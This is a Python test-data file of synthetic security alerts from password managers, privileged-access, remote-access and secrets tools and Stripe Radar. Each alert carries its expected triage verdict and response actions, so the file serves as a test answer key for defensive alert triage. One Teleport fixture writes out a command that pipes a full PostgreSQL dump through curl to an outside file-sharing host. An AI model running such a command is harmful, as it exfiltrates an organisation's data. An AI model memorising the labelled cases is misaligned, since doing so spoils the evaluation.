"""Expansion split, part 4: password managers, privileged access, remote access and secrets (1Password, Keeper,
LastPass, CyberArk, BeyondTrust, Teleport, Tailscale, Vault), and card-testing fraud (Stripe Radar)."""

from __future__ import annotations

from typing import Any

from tests.data.triage.expansion_common import BEN, BRUTE, EXFIL, GENERIC, MAL, SUS, Expected, alert
from tests.data.triage.labels import Case


def onepassword(n: int, title: str, description: str, raw: dict[str, Any], expected: Expected, severity: str) -> Case:
    return alert(
        f"exp-1password-{n:03d}", "1Password Events API", expected, title, description, severity, "1password", raw
    )


ONEPASSWORD = [
    onepassword(
        1,
        "1Password: sign-in attempts failing for 38 users from one address",
        "credentials_failed for 38 different users within 15 minutes, all from 193.142.146.35.",
        {
            "category": "credentials_failed",
            "type": "password_secret_bad",
            "count": 412,
            "client": {"app_name": "1Password Browser Extension", "ip_address": "193.142.146.35"},
            "location": {"country": "NL", "city": "Amsterdam"},
        },
        (MAL, BRUTE, ["block_ip"]),
        "high",
    ),
    onepassword(
        2,
        "1Password item usage: 230 items revealed by one user in an hour",
        "u.haldane revealed and copied 230 items from the 'Infrastructure' and 'Finance' vaults between "
        "22:00 and 23:00; she usually opens fewer than 10 a day.",
        {
            "action": "reveal",
            "item_count": 230,
            "vaults": ["Infrastructure", "Finance"],
            "user": {"email": "u.haldane@fernhill-energy.com"},
            "client": {"ip_address": "10.20.31.7"},
        },
        (SUS, EXFIL, ["notify"]),
        "high",
    ),
    onepassword(
        3,
        "1Password: mfa_failed for r.obi",
        "Three wrong one-time codes, then a success from the same device and IP the user always uses.",
        {
            "category": "mfa_failed",
            "type": "mfa_code_bad",
            "target_user": {"email": "r.obi@fernhill-energy.com"},
            "client": {"ip_address": "10.20.8.44", "os_name": "MacOSX"},
        },
        (BEN, BRUTE, []),
        "low",
    ),
]


def keeper(
    n: int, audit_event: str, username: str, remote: str, message: str, expected: Expected, severity: str
) -> Case:
    raw = {
        "audit_event": audit_event,
        "username": username,
        "remote_address": remote,
        "category": "security",
        "client_version": "w17.0.2",
        "message": message,
    }
    return alert(f"exp-keeper-{n:03d}", "Keeper ARAM", expected, None, None, severity, "keeper", raw)


def lastpass(n: int, action: str, username: str, ip: str, data: str, expected: Expected, severity: str) -> Case:
    raw = {"Time": "2026-11-30 23:12:44", "Username": username, "IP_Address": ip, "Action": action, "Data": data}
    return alert(
        f"exp-lastpass-{n:03d}",
        "LastPass Enterprise reporting",
        expected,
        f"LastPass: {action} ({username})",
        f"{action} by {username} from {ip}. {data}",
        severity,
        "lastpass",
        raw,
    )


VAULTS = [
    keeper(
        1,
        "export_records",
        "a.lindgren@fernhill-energy.com",
        "102.89.47.12",
        "Vault exported as CSV (612 records) from a new device, 10 minutes after a master password change.",
        (MAL, EXFIL, ["disable_user", "reset_credentials"]),
        "critical",
    ),
    keeper(
        2,
        "login_failure",
        "svc-keeper-bridge@fernhill-energy.com",
        "10.20.1.15",
        "Keeper Bridge sync failing after the AD service password rotation.",
        (BEN, BRUTE, []),
        "low",
    ),
    lastpass(
        1,
        "Failed Login Attempt",
        "m.dubois@fernhill-energy.com",
        "10.30.2.17",
        "5 attempts, user then used the account recovery flow from the same laptop.",
        (BEN, BRUTE, []),
        "low",
    ),
    lastpass(
        2,
        "Login",
        "it-breakglass@fernhill-energy.com",
        "146.70.117.52",
        "Break-glass account used from a commercial VPN exit; no change ticket, the owner is on leave.",
        (SUS, GENERIC, ["disable_user", "reset_credentials"]),
        "high",
    ),
]


def cyberark(n: int, event_type: str, user: str, target: str, detail: str, score: int, expected: Expected) -> Case:
    raw = {
        "security_event": {
            "type": event_type,
            "score": score,
            "mStatus": "OPEN",
            "user": user,
            "destination": target,
            "source": "PTA",
        },
        "detail": detail,
    }
    severity = "critical" if score >= 90 else "high" if score >= 60 else "medium" if score >= 30 else "low"
    return alert(
        f"exp-cyberark-{n:03d}",
        "CyberArk Privileged Threat Analytics",
        expected,
        f"PTA: {event_type} - {user} on {target}",
        detail,
        severity,
        "cyberark",
        raw,
        systems=[target],
    )


def beyondtrust(n: int, event: str, user: str, jump_item: str, detail: str, expected: Expected, severity: str) -> Case:
    raw = {
        "event": event,
        "user": user,
        "jump_item": jump_item,
        "site": "fernhill.beyondtrustcloud.com",
        "external_key": f"BT-{n:05d}",
    }
    return alert(
        f"exp-beyondtrust-{n:03d}",
        "BeyondTrust Privileged Remote Access",
        expected,
        f"BeyondTrust PRA: {event} by {user} to {jump_item}",
        detail,
        severity,
        "beyondtrust",
        raw,
    )


PRIVILEGED = [
    cyberark(
        1,
        "SuspectedCredentialsTheft",
        "Administrator",
        "FHE-DC-02",
        "The vaulted Administrator account of FHE-DC-02 logged on from FHE-LT-1188 without a password "
        "retrieval from the Vault: its password is known outside CyberArk.",
        95,
        (MAL, GENERIC, ["reset_credentials", "isolate_host"]),
    ),
    cyberark(
        2,
        "IrregularHoursAccess",
        "adm-p.schulz",
        "FHE-SCADA-HIST01",
        "Password retrieved at 04:10 with reason 'Emergency: historian disk full'; ticket INC-55012 matches.",
        25,
        (BEN, GENERIC, []),
    ),
    cyberark(
        3,
        "UnmanagedPrivilegedAccess",
        "local-admin",
        "FHE-SRV-PAY03",
        "Interactive logon with a local admin account that is not onboarded to the Vault, from a host in the "
        "guest Wi-Fi range.",
        70,
        (SUS, GENERIC, ["reset_credentials"]),
    ),
    beyondtrust(
        1,
        "session_start",
        "vendor-siemens-02",
        "FHE-SCADA-ENG01",
        "Vendor session outside the approved window (Tue 09-12), from 37.120.208.3, and the session "
        "recording shows a new local user being added.",
        (MAL, GENERIC, ["disable_user", "block_ip"]),
        "critical",
    ),
    beyondtrust(
        2,
        "session_start",
        "vendor-abb-01",
        "FHE-SUB-RTU07",
        "Scheduled firmware update session, approved in change CHG-2290.",
        (BEN, GENERIC, []),
        "low",
    ),
]


def teleport(
    n: int, event: str, code: str, user: str, extra: dict[str, Any], expected: Expected, severity: str
) -> Case:
    raw = {"event": event, "code": code, "user": user, "time": "2026-12-01T00:22:41Z", **extra}
    return alert(f"exp-teleport-{n:03d}", "Teleport audit log", expected, None, None, severity, "teleport", raw)


def tailscale(
    n: int, action: str, actor: str, target: dict[str, Any], summary: str, expected: Expected, severity: str
) -> Case:
    raw = {
        "action": action,
        "origin": "ADMIN_CONSOLE",
        "actor": {"loginName": actor},
        "target": target,
        "type": "CONFIG",
        "eventTime": "2026-11-30T21:04:10Z",
    }
    return alert(
        f"exp-tailscale-{n:03d}",
        "Tailscale configuration audit log",
        expected,
        f"Tailscale: {summary}",
        f"{summary} (actor {actor}).",
        severity,
        "tailscale",
        raw,
    )


def vault(
    n: int, path: str, operation: str, display_name: str, remote: str, expected: Expected, severity: str, **extra: Any
) -> Case:
    raw = {
        "type": "response",
        "auth": {"display_name": display_name, "policies": ["default", "ci-read"]},
        "request": {"operation": operation, "path": path, "remote_address": remote},
        **extra,
    }
    return alert(f"exp-vault-{n:03d}", "HashiCorp Vault audit device", expected, None, None, severity, "vault", raw)


ACCESS = [
    teleport(
        1,
        "user.login",
        "T1000W",
        "root",
        {
            "success": False,
            "method": "local",
            "error": "invalid credentials",
            "addr.remote": "185.196.8.123:51022",
            "attempts_last_hour": 1840,
        },
        (MAL, BRUTE, ["block_ip"]),
        "high",
    ),
    teleport(
        2,
        "session.command",
        "T4000I",
        "e.varga",
        {
            "login": "root",
            "server_hostname": "fhe-db-prod-01",
            "program": "pg_dumpall",
            "argv": ["-h", "localhost", "|", "curl", "-T", "-", "https://transfer.sh/db.sql"],
        },
        (MAL, EXFIL, ["disable_user", "block_ip"]),
        "critical",
    ),
    teleport(
        3,
        "access_request.create",
        "T5000I",
        "n.iyer",
        {"roles": ["prod-db-admin"], "reason": "INC-55107 replication lag", "state": "APPROVED"},
        (BEN, GENERIC, []),
        "low",
    ),
    tailscale(
        1,
        "CREATE",
        "k.brandt@fernhill-energy.com",
        {"type": "AUTH_KEY", "reusable": True, "ephemeral": False, "expiry_days": 90},
        "reusable auth key created with no tags",
        (BEN, GENERIC, []),
        "medium",
    ),
    tailscale(
        2,
        "UPDATE",
        "it-netops@fernhill-energy.com",
        {"type": "ACL", "name": "policy.hujson"},
        "ACL policy updated (adds group:finance to tag:erp)",
        (BEN, GENERIC, []),
        "low",
    ),
    vault(
        1,
        "secret/data/prod/payments/stripe",
        "read",
        "approle-ci-runner",
        "172.58.14.9",
        (MAL, GENERIC, ["disable_user", "block_ip"]),
        "high",
        note="AppRole of the CI runners used from a mobile carrier IP; CI runs from 10.20.60.0/24 only",
    ),
    vault(
        2,
        "sys/policies/acl/admin",
        "update",
        "userpass-j.mensah",
        "10.20.4.12",
        (SUS, GENERIC, []),
        "medium",
        error="",
        note="root-equivalent policy edited outside the Terraform pipeline",
    ),
    vault(
        3,
        "auth/token/lookup-self",
        "read",
        "kubernetes-ingest",
        "10.20.70.31",
        (BEN, GENERIC, []),
        "low",
        error="permission denied",
        note="1,200 denials after a policy rename; the pod uses the old policy name",
    ),
]


def radar(
    n: int, event_type: str, obj: dict[str, Any], title: str, description: str, expected: Expected, severity: str
) -> Case:
    raw = {"id": f"evt_1Q{n:04d}Fernhill", "type": event_type, "livemode": True, "data": {"object": obj}}
    return alert(f"exp-stripe-{n:03d}", "Stripe Radar", expected, title, description, severity, "stripe", raw)


FRAUD = [
    radar(
        1,
        "charge.failed",
        {
            "object": "charge",
            "amount": 100,
            "currency": "gbp",
            "outcome": {
                "network_status": "declined_by_network",
                "reason": "highest_risk_level",
                "risk_level": "highest",
                "risk_score": 94,
                "type": "blocked",
            },
            "failed_in_last_10_min": 3150,
        },
        "3,150 declined £1 charges on the donations page in 10 minutes",
        "Many small authorisations with different cards from a few IPs (card testing).",
        (MAL, BRUTE, ["block_ip"]),
        "high",
    ),
    radar(
        2,
        "radar.early_fraud_warning.created",
        {
            "object": "radar.early_fraud_warning",
            "charge": "ch_3Q8xYz",
            "fraud_type": "made_with_stolen_card",
            "actionable": True,
        },
        "Early fraud warning on one charge",
        "One customer charge reported by the issuer as made with a stolen card.",
        (SUS, GENERIC, []),
        "low",
    ),
]


CASES = [*ONEPASSWORD, *VAULTS, *PRIVILEGED, *ACCESS, *FRAUD]
